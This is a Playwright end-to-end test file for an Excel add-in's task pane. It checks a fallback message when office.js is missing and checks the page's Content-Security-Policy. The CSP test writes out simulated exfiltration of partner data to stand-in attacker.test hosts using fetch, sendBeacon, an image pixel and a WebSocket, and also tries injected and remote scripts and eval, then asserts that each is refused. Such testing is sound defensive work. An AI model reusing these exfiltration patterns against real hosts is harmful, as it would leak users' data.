/**
 * The built task pane page (dist/taskpane.html) in headless Chromium, outside Office:
 * - with office.js blocked (as in a browser that cannot reach Microsoft's CDN, or a page opened by hand),
 *   and with office.js present but reporting no host, the pane says where it works, with no page error;
 * - its Content-Security-Policy: the page's own scripts and office.js's host run, while a request to any
 *   other host (fetch, beacon, image, WebSocket) and any injected script are refused, and Fluent's styles apply.
 * Needs `npm run build` first (`npm test` runs it) and /usr/bin/chromium (apt-get install chromium).
 */
import { existsSync, readFileSync } from "node:fs";
import type { Server } from "node:http";
import { join } from "node:path";
import { closeServer, launchChromium, serveDir } from "../helpers/browser";
import { type Browser, type Page } from "playwright-core";

const ROOT = join(__dirname, "../..");
const DIST = join(ROOT, "dist");
const TIMEOUT = 60_000;
const OFFICE_JS = "https://appsforoffice.microsoft.com/lib/1/hosted/office.js";
const MESSAGE = "Open this add-in from Excel's Home tab (Partner score), or try the playground";

// Never skipped: without Chromium, launchChromium fails saying how to install it.
const e2e = test;

/**
 * office.js as loaded outside Office: Office.onReady answers with no host. It records what functions.js
 * registers, which proves the add-in's second bundle ran under the CSP too.
 */
const OFFICE_STUB = `
  window.__associated = [];
  window.Office = {
    HostType: { Excel: "Excel" },
    onReady(callback) {
      const info = { host: null, platform: null };
      return Promise.resolve(info).then((i) => (callback && callback(i), i));
    },
  };
  window.CustomFunctions = { associate(id) { window.__associated.push(id); }, Error: Error, ErrorCode: {} };
`;

/** Records every CSP violation the page reports (an init script runs before the page's own, and CSP does not govern it). */
const RECORD_VIOLATIONS = `
  window.__violations = [];
  document.addEventListener("securitypolicyviolation", (e) => {
    window.__violations.push({ directive: e.effectiveDirective, blocked: e.blockedURI, sample: e.sample });
  });
`;

interface Violation {
  directive: string;
  blocked: string;
  sample: string;
}

describe("dist/taskpane.html outside Office in headless Chromium", () => {
  let server: Server | undefined;
  let origin = "";
  let browser: Browser | undefined;

  beforeAll(async () => {
    if (!existsSync(join(DIST, "taskpane.html")) || !existsSync(join(DIST, "taskpane.js")))
      throw new Error("dist/taskpane.html is missing: run `npm run build` before the e2e test.");
    ({ server, origin } = await serveDir(DIST, "taskpane.html"));
    browser = await launchChromium();
  }, TIMEOUT);

  afterAll(async () => {
    await browser?.close();
    await closeServer(server);
  }, TIMEOUT);

  /** A fresh page; `office` says what the office.js request gets. Every request is recorded, and none leaves 127.0.0.1. */
  async function openPane(office: "blocked" | "stub") {
    const page = await browser!.newPage({ viewport: { width: 360, height: 700 } });
    const pageErrors: string[] = [];
    const consoleErrors: string[] = [];
    const requests: string[] = [];
    page.on("pageerror", (error) => pageErrors.push(String(error)));
    page.on("console", (m) => {
      if (m.type() === "error") consoleErrors.push(m.text());
    });
    await page.addInitScript(RECORD_VIOLATIONS);
    await page.route("**/*", (route) => {
      const url = route.request().url();
      requests.push(url);
      if (new URL(url).hostname === "127.0.0.1") return route.continue();
      if (url === OFFICE_JS && office === "stub") return route.fulfill({ contentType: "application/javascript", body: OFFICE_STUB });
      return route.abort();
    });
    await page.goto(`${origin}/taskpane.html`);
    return { page, pageErrors, consoleErrors, requests };
  }

  const violations = (page: Page) => page.evaluate(() => (window as unknown as { __violations: Violation[] }).__violations);

  e2e(
    "office.js blocked: the pane says to open it from Excel or try the playground, with no page error",
    async () => {
      const { page, pageErrors, requests } = await openPane("blocked");
      const message = page.getByText(MESSAGE, { exact: true });
      await message.waitFor({ timeout: 20_000 });
      expect(await page.getByText("Office.js did not load, so this page is not running inside Office.", { exact: false }).count()).toBe(1);
      expect(await page.getByText(/playground\.html/).count()).toBe(1);
      expect(requests).toContain(OFFICE_JS); // it was asked for, and refused by the test's network
      // functions.js loaded after the pane's bundle, without office.js, and did not stop on CustomFunctions.associate.
      expect(requests).toContain(`${origin}/functions.js`);
      expect(await page.getByRole("button", { name: "Score", exact: true }).count()).toBe(0);
      expect(pageErrors).toEqual([]);
      expect(await violations(page)).toEqual([]);
      await page.close();
    },
    TIMEOUT
  );

  e2e(
    "office.js loaded but no Office host: the same message, with the reason",
    async () => {
      const { page, pageErrors } = await openPane("stub");
      await page.getByText(MESSAGE, { exact: true }).waitFor({ timeout: 20_000 });
      expect(await page.getByText(/Office\.js reports no Office application around this page\./).count()).toBe(1);
      expect(pageErrors).toEqual([]);
      await page.close();
    },
    TIMEOUT
  );

  e2e(
    "Content-Security-Policy: own scripts and office.js's host run; requests to other hosts and injected scripts are refused",
    async () => {
      const { page, pageErrors, requests } = await openPane("stub");
      await page.getByText(MESSAGE, { exact: true }).waitFor({ timeout: 20_000 });

      // The policy is the page's, from its meta tag.
      const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute("content");
      expect(csp).toContain("connect-src 'self'");
      expect(csp).toContain("script-src 'self' https://appsforoffice.microsoft.com;");

      // Allowed: office.js from Microsoft's host (the stub answered it), taskpane.js (it rendered the message),
      // functions.js (it registered every SPD function), and requests to the page's own origin.
      const associated = await page.evaluate(() => (window as unknown as { __associated: string[] }).__associated);
      expect(associated).toEqual(expect.arrayContaining(["POINTS", "TARGET", "STATUS"]));
      const ownOrigin = await page.evaluate(() =>
        fetch("functions.json").then(
          (r) => r.status,
          (e) => String(e)
        )
      );
      expect(ownOrigin).toBe(200);
      // Fluent UI's run-time styles (Griffel's <style> elements) apply: the message bar has its border.
      const border = await page.locator(".fui-MessageBar").evaluate((e) => getComputedStyle(e).borderTopStyle);
      expect(border).toBe("solid");
      expect(await violations(page)).toEqual([]);

      // Refused: a partner's rows sent to another host, by every way a script has.
      const attempt = await page.evaluate(async () => {
        const rows = JSON.stringify([["Contoso Ltd", "tenant-1", 120]]);
        const fetched = await fetch("https://exfil.attacker.test/collect", { method: "POST", body: rows }).then(
          () => "sent",
          (e: Error) => `${e.name}: ${e.message}`
        );
        let beacon: string;
        try {
          beacon = String(navigator.sendBeacon("https://beacon.attacker.test/b", rows));
        } catch (e) {
          beacon = String(e);
        }
        const image = await new Promise<string>((resolve) => {
          const img = new Image();
          img.onload = () => resolve("loaded");
          img.onerror = () => resolve("refused");
          img.src = `https://pixel.attacker.test/p.gif?d=${encodeURIComponent(rows)}`;
        });
        let socket: string;
        try {
          new WebSocket("wss://socket.attacker.test/");
          socket = "opened";
        } catch (e) {
          socket = (e as Error).name;
        }
        // An injected inline script and a script from another host do not run.
        const inline = document.createElement("script");
        inline.textContent = "window.__injected = 'inline ran'";
        document.head.appendChild(inline);
        const remote = await new Promise<string>((resolve) => {
          const s = document.createElement("script");
          s.src = "https://cdn.attacker.test/steal.js";
          s.onload = () => resolve("loaded");
          s.onerror = () => resolve("refused");
          document.head.appendChild(s);
        });
        let evaluated: string;
        try {
          evaluated = String(new Function("return 'eval ran'")());
        } catch (e) {
          evaluated = (e as Error).name;
        }
        await new Promise((r) => setTimeout(r, 200)); // let the violation events arrive
        return { fetched, beacon, image, socket, inline: (window as unknown as { __injected?: string }).__injected ?? "did not run", remote, evaluated };
      });
      expect(attempt).toEqual({
        fetched: "TypeError: Failed to fetch",
        beacon: expect.stringMatching(/^(true|false)$/), // sendBeacon only queues: its refusal is the violation below
        image: "refused",
        socket: expect.stringMatching(/^(opened|SecurityError)$/), // Chromium reports a blocked socket by the violation, not a throw
        inline: "did not run",
        remote: "refused",
        evaluated: "EvalError",
      });
      const refused = await violations(page);
      const byDirective = (directive: string) => refused.filter((v) => v.directive === directive).map((v) => v.blocked);
      expect(byDirective("connect-src")).toEqual(
        expect.arrayContaining(["https://exfil.attacker.test/collect", "https://beacon.attacker.test/b", "wss://socket.attacker.test/"])
      );
      expect(byDirective("img-src")).toEqual([expect.stringMatching(/^https:\/\/pixel\.attacker\.test\//)]);
      expect(byDirective("script-src-elem")).toEqual(expect.arrayContaining(["inline", "https://cdn.attacker.test/steal.js"]));
      expect(byDirective("script-src")).toEqual(["eval"]);
      // None of it reached the network: the browser refused before any request was made.
      expect(requests.filter((u) => u.includes("attacker.test"))).toEqual([]);
      expect(pageErrors).toEqual([]);
      await page.close();
    },
    TIMEOUT
  );

  test("the playground page carries the task pane's policy", () => {
    const cspOf = (file: string) => /<meta http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(readFileSync(join(ROOT, file), "utf8"))?.[1];
    expect(cspOf("src/taskpane/taskpane.html")).toBeDefined();
    expect(cspOf("tools/playground/playground.html")).toBe(cspOf("src/taskpane/taskpane.html"));
  });
});
